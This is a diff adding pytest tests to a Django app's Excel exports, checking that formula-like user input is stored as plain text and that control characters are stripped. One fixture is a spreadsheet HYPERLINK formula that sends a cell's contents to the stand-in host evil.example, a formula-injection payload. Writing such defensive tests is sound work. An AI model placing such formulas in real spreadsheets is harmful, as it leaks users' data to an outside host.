@@ -2,13 +2,14 @@
 
 import datetime as dt
 import io
+import zipfile
 import zoneinfo
 
 import openpyxl
 import pytest
 import time_machine
 
-from tests.factories import AgencyFactory, ConclusionFactory, NoticeFactory, TaskFactory
+from tests.factories import AgencyFactory, AgencyKindFactory, ConclusionFactory, NoticeFactory, TaskFactory
 
 pytestmark = pytest.mark.django_db
 HCM = zoneinfo.ZoneInfo("Asia/Ho_Chi_Minh")
@@ -65,6 +66,54 @@ def test_agencies_export(client, leader):
     assert header[:4] == ["Xếp hạng", "Loại cơ quan", "Cơ quan", "Tổng số nhiệm vụ"]
     row = [c.value for c in sheet[4]]
     assert row[2:7] == ["Sở Kế hoạch và Đầu tư", 1, 0, 0, 1]
+
+
+# --- What people typed is written as text, never as a formula -------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&D2,"Xem chi tiết")', "+1+1", "-2+3", "@SUM(A1:A9)"]
+
+
+def _raw_sheet_xml(response) -> str:
+    with zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content))) as package:
+        return package.read("xl/worksheets/sheet1.xml").decode()
+
+
+def _text_cell(cell, value):
+    assert (cell.value, cell.data_type) == (value, "s")
+    assert cell.quotePrefix  # Excel keeps it text even when the cell is edited
+
+
+def test_task_export_writes_formula_like_values_as_text(client, leader, ict_dept):
+    kind = AgencyKindFactory(code="f", name="@Loại")
+    task = TaskFactory(action=FORMULAS[0], lead=AgencyFactory(name=FORMULAS[1], kind=kind), coordinating=[ict_dept])
+    ict_dept.name = FORMULAS[3]
+    ict_dept.save()
+    task.conclusion.notice.number = FORMULAS[2]
+    task.conclusion.notice.save()
+    client.force_login(leader)
+    response = client.get("/tasks/export.xlsx")
+    assert "<f>" not in _raw_sheet_xml(response)
+    sheet = workbook(client.get("/tasks/export.xlsx"))
+    for column, value in zip("CDFE", FORMULAS, strict=True):
+        _text_cell(sheet[f"{column}2"], value)
+
+
+def test_agencies_export_writes_formula_like_names_as_text(client, leader):
+    agency = AgencyFactory(name=FORMULAS[0], kind=AgencyKindFactory(code="f", name=FORMULAS[3]))
+    TaskFactory(lead=agency, due_date=dt.date(2021, 6, 20))
+    client.force_login(leader)
+    params = {"period": "month", "year": "2021", "month": "6"}
+    assert "<f>" not in _raw_sheet_xml(client.get("/dashboard/agencies.xlsx", params))
+    sheet = workbook(client.get("/dashboard/agencies.xlsx", params))
+    _text_cell(sheet["B4"], FORMULAS[3])  # below the title and the period
+    _text_cell(sheet["C4"], FORMULAS[0])
+
+
+def test_export_of_a_task_stored_with_control_characters_still_opens(client, leader):
+    # Stored before input was cleaned (config.cleaning): the export cleans what it writes too.
+    TaskFactory(action="Lập\x0b kế\x01 hoạch")
+    client.force_login(leader)
+    assert workbook(client.get("/tasks/export.xlsx"))["C2"].value == "Lập\n kế hoạch"
 
 
 def test_task_export_names_a_notice_without_a_number_by_its_date_and_title(client, office_clerk):
